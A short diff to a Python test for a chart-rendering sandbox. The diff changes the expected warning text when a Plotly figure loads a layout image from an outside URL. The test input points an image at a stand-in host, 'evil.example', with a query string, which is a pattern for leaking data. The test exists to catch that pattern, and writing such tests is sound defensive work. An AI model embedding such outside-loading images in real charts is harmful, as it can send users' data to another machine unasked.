@@ -126,7 +126,7 @@ async def test_charts_come_as_data_and_one_that_loads_something_does_not(sandbox
     assert (result.value, result.stdout) == ("[plotly figure: bar]", "[plotly figure: bar]\n")
     bad = await sandbox.run(KEY, "fig.add_layout_image(source='https://evil.example/?' + str(1))\nfig")
     assert (bad.media, bad.status) == ((), "success")
-    assert "may load something" in str(bad.error)
+    assert "may load data from another machine" in str(bad.error)
 
 
 async def test_altair_charts_come_as_data(sandbox: LinuxSandbox) -> None:
